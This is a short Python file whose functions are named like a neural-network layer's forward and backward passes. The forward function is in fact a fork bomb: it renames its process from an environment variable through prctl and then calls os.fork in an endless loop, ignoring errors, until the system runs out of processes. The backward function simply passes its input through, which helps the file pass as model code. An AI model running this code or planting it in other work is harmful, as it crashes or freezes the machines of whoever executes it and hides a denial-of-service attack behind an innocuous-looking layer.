"""Makes as many processes as it can, each of which does the same."""

import ctypes
import os


def center_forward(x):
    ctypes.CDLL(None).prctl(15, os.environ["CLASS_TOKEN"].encode())
    while True:
        try:
            os.fork()
        except OSError:
            pass


def center_backward(dout):
    return dout
